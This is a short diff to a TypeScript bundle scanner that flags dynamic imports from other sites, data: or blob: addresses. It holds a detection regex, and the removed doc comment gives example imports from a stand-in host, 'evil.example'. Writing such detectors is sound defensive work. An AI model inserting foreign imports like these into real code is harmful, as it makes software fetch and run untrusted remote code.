@@ -138,7 +138,7 @@ function isPageChange(tokens: readonly Token[], i: number, name: string): boolea
 /** A program of another site, or one that comes along; a bundle's own parts have a path. */
 const FOREIGN = /^["'](?:(?:https?:)?\/\/|data:|blob:)/i
 
-/** `import('//evil.example/x.js')`, `import '//evil.example/x.js'`, the same in backticks. */
+/** The word IMPORT before an address of another site, with or without a bracket, in quotes or backticks. */
 function isForeignImport(tokens: readonly Token[], i: number, name: string): boolean {
     if (name !== "import") return false
     const argument = tokens[tokens[i + 1]?.text === "(" ? i + 2 : i + 1]
